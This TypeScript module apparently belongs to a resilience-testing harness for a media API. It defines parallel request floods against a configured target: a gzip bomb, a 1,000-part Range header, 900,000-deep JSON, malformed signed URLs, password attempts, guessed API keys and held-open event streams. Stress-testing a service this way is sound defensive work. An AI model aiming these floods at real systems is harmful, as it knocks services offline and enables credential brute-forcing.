import { request } from "node:http";
import { gzipSync } from "node:zlib";
import { ATTACKER, type HostileAttack, repeatedly, type Target } from "./attack.ts";

type Sent = { method?: string; path: string; headers?: Record<string, string>; body?: string | Buffer };
type Flood = {
  lanes: number;
  sends(target: Target, n: number): Sent;
};

/** Sends a request from the address of the attacker, and discards the response. */
function sent(
  { base }: Target,
  { method = "GET", path, headers = {}, body }: Sent,
  signal: AbortSignal,
): Promise<void> {
  return new Promise((resolve, reject) => {
    const url = new URL(path, base);
    const outgoing = request(url, { method, headers, localAddress: ATTACKER, agent: false, signal }, (response) => {
      response.resume();
      response.on("close", resolve);
    });
    outgoing.on("error", reject);
    outgoing.end(body);
  });
}

const JSON_TYPE = { "content-type": "application/json" };
const as = ({ key }: Target) => ({ "x-api-key": key });
const post = (path: string, body: unknown, headers: Record<string, string> = {}): Sent => ({
  method: "POST",
  path,
  body: JSON.stringify(body),
  headers: { ...JSON_TYPE, ...headers },
});
/** 32 MiB of spaces in 32 KiB. */
const bomb = gzipSync(Buffer.alloc(32 * 2 ** 20, " "));
const nonsense = (n: number) => `expires=${"9".repeat(n % 300)}&signature=${"%ff".repeat(n % 2000)}&lease=${n}`;
const event = (assetId: number, n: number) => ({
  asset_id: assetId,
  session_id: `s${n}`,
  viewer_id: `v${n % 1000}`,
  event: "heartbeat",
  position_seconds: n % 100,
  watched_seconds: 10,
});

const FLOODS: Record<string, Flood> = {
  "ranges with 1,000 parts": {
    lanes: 64,
    sends: ({ assetId }) => ({
      path: `/media/${assetId}/thumbnail.jpg`,
      headers: { range: `bytes=${Array.from({ length: 1000 }, (_, n) => `${n}-${n}`).join()}` },
    }),
  },
  "compressed bodies": {
    lanes: 32,
    sends: () => ({
      method: "POST",
      path: "/api/v1/playback_events",
      body: bomb,
      headers: { ...JSON_TYPE, "content-encoding": "gzip" },
    }),
  },
  "signed URLs with nonsense": {
    lanes: 64,
    sends: ({ tenantId }, n) => ({ path: `/storage/tenants/${tenantId}/sources/a.mp4?${nonsense(n)}` }),
  },
  "playback tokens with nonsense": {
    lanes: 64,
    sends: ({ assetId }, n) => ({ path: `/media/${assetId}/~${"a.b".repeat(n % 2000)}/master.m3u8` }),
  },
  "sign-in attempts": {
    lanes: 64,
    sends: (_, n) => post("/api/v1/session", { email: `a${n % 100}@example.com`, password: "x".repeat(n % 200) }),
  },
  "guessed keys": { lanes: 64, sends: (_, n) => ({ path: "/api/v1/assets", headers: { "x-api-key": `guess-${n}` } }) },
  "event streams": {
    lanes: 500,
    sends: (target) => ({ path: "/api/v1/events/stream", headers: as(target) }),
  },
  "uploads that are announced": {
    lanes: 32,
    sends: (target, n) =>
      post("/api/v1/uploads/initiate", { filename: `${n}.mp4`, bytes_expected: 2 ** 30 }, as(target)),
  },
  beacons: { lanes: 64, sends: ({ assetId }, n) => post("/api/v1/playback_events", event(assetId, n)) },
  "deep JSON": {
    lanes: 32,
    sends: (target) => ({
      method: "POST",
      path: "/api/v1/uploads/initiate",
      body: "[".repeat(900_000),
      headers: { ...JSON_TYPE, ...as(target) },
    }),
  },
};

export const requests: HostileAttack[] = Object.entries(FLOODS).map(
  ([name, { lanes, sends }]): HostileAttack => ({
    name: `${lanes} lanes of ${name}`,
    run: (target, signal) => repeatedly(signal, lanes, (n) => sent(target, sends(target, n), signal)),
  }),
);
